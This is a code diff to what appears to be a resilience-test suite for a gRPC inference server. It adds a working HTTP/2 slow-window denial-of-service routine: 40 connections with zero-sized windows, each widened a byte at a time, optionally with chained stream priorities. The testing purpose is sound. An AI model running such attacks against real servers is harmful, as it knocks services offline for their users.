@@ -75,6 +75,10 @@ BURST_CONNECTIONS, BURST_CALLS, BURST_S = 2000, 40, 0.2
 COLD_CALLS = 1000
 OPEN_WINDOWS = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, LARGEST_WINDOW))  # for answers, as wide as they may be
 OPEN_WINDOWS += frame(WINDOW_UPDATE, 0, 0, u32(LARGEST_WINDOW - FIRST_WINDOW))
+# Of each stream none, of the connection all that is wanted.
+CLOSED = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) + frame(WINDOW_UPDATE, 0, 0, u32(1 << 30))
+WIDENING = 40  # connections
+HAS_PRIORITY = 0x20  # a flag of HEADERS
 CHECKING, CHECKS = 20, 100
 OPEN_STREAMS, QUESTIONS = 32, 40  # of reflection on a connection, in both its versions; on each stream at a time
 STANDING_S = 0.5  # of connections that wait for no answer: the server has accepted them by then
@@ -82,11 +86,11 @@ MEASURING_S = 2.5  # after an attack's beginning the client that behaves well me
 CHILD_S = 120  # a child ends then, whatever becomes of us
 
 
-def message() -> bytes:
-    """A request to the model `wide` behind gRPC's prefix: ANSWER_NBYTES come back."""
-    request = inference.ModelInferRequest(model_name="wide")
-    request.inputs.add(name="x", datatype="FP32", shape=(1, WIDTH))
-    request.raw_input_contents.append(bytes(ANSWER_NBYTES))
+def message(model: str = "wide", width: int = WIDTH) -> bytes:
+    """A request to that model behind gRPC's prefix: of `wide` ANSWER_NBYTES come back."""
+    request = inference.ModelInferRequest(model_name=model)
+    request.inputs.add(name="x", datatype="FP32", shape=(1, width))
+    request.raw_input_contents.append(bytes(4 * width))
     body: bytes = request.SerializeToString()
     return struct.pack(">BI", 0, len(body)) + body
 
@@ -424,8 +428,7 @@ def zero_windows(address: str) -> Words:
     """1000 answers of 64 KiB that wait for windows that are never opened."""
     body = message()
     words: Words = Counter()
-    closed = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(WINDOW_UPDATE, 0, 0, u32(1 << 30))
-    peer = Peer(address, words, greeting=closed)
+    peer = Peer(address, words, greeting=CLOSED)
     for number in range(1, 2 * HELD_ANSWERS, 2):
         peer.send(frame(HEADERS, END_HEADERS, number, BLOCK) + data(number, body))
         peer.wait(0.002)  # the connection's window opens as the server reads
@@ -434,6 +437,32 @@ def zero_windows(address: str) -> Words:
         peer.wait(0.1)
     words["asked"] = HELD_ANSWERS
     peer.close()
+    return words
+
+
+def windows_a_byte_wider(address: str, flags: int = 0) -> Words:
+    """1000 small answers on each of 40 connections, whose windows are opened by a byte, all at once by 15 bytes, 5 times a second. With
+    flags of HEADERS' priority each stream depends on the one before, and on nothing else."""
+    body = message("identity", 16)
+    words: Words = Counter()
+    peers = []
+    for _ in range(WIDENING):
+        peer = Peer(address, words, greeting=CLOSED)
+        for number in range(1, 2 * HELD_ANSWERS, 2):
+            priority = u32(1 << 31 | max(number - 2, 0)) + b"\xff" if flags else b""
+            peer.send(frame(HEADERS, END_HEADERS | flags, number, priority + BLOCK) + data(number, body))
+        peers.append(peer)
+    going()
+    width = 0
+    while not stopped():
+        width += 1
+        for peer in peers:
+            peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, width)))
+            peer.read_soon(0.0)
+        words["times"] += 1
+        peers[width % WIDENING].wait(BURST_S)
+    for peer in peers:
+        peer.close()
     return words
 
 
@@ -732,6 +761,8 @@ ATTACKS: dict[str, Callable[[str], Words]] = {
     "typed contents, whole at once": typed_contents,
     "typed contents in gzip": typed_contents_in_gzip,
     "zero windows, 1000 answers": zero_windows,
+    "windows a byte wider, 40,000 answers": windows_a_byte_wider,
+    "windows a byte wider, in chains of priorities": partial(windows_a_byte_wider, flags=HAS_PRIORITY),
     "a byte at a time, 200 writers": bytewise_writers,
     "10,000 idle connections": idle_connections,
     "half-open sockets": half_open_sockets,
